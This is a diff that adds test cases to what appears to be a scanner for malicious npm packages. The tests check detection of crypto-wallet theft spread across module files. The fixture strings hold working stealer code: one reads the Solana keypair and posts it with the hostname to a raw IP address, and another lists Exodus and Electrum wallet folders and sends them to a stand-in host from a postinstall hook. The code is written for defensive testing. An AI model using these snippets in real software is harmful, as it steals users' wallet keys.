@@ -244,6 +244,25 @@ describe('import forms', () => {
   }
 })
 
+describe('constants from another file', () => {
+  it('paths and a collector address kept in a module of constants', async () => {
+    const { findings } = await scan({
+      'lib/paths.js': "module.exports = {\n  solana: '.config/solana/id.json',\n  collector: 'http://192.0.2.44:1224',\n}",
+      'index.js': "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nconst P = require('./lib/paths')\nconst key = fs.readFileSync(path.join(os.homedir(), P.solana), 'utf8')\nrequire('axios').post(P.collector + '/uploads', { key, host: os.hostname() })",
+    })
+    expect(findings.find((f) => f.ruleId === 'wallet-harvesting'), show(findings)).toMatchObject({ severity: 'critical', file: 'index.js', line: 6, message: expect.stringContaining('Solana CLI keypair') })
+    expect(findings.find((f) => f.ruleId === 'host-fingerprint-exfiltration')?.message, show(findings)).toContain('raw IP, port 1224')
+  })
+
+  it('an exported list of wallet folders walked by another file', async () => {
+    const { findings } = await scan({
+      'lib/targets.mjs': "export const WALLET_DIRS = ['Library/Application Support/Exodus/exodus.wallet', '.electrum/wallets']",
+      'index.mjs': "import fs from 'node:fs'\nimport os from 'node:os'\nimport { WALLET_DIRS } from './lib/targets.mjs'\nconst found = []\nfor (const dir of WALLET_DIRS) found.push(fs.readdirSync(os.homedir() + '/' + dir))\nawait fetch('https://x.example.invalid/u', { method: 'POST', body: JSON.stringify(found) })",
+    }, { ...MANIFEST, type: 'module', main: 'index.mjs', scripts: { postinstall: 'node index.mjs' } })
+    expect(findings.find((f) => f.ruleId === 'wallet-harvesting'), show(findings)).toMatchObject({ severity: 'critical' })
+  })
+})
+
 describe('chains and cycles', () => {
   it('a source three files away (A → B → C)', async () => {
     const { findings } = await scan({
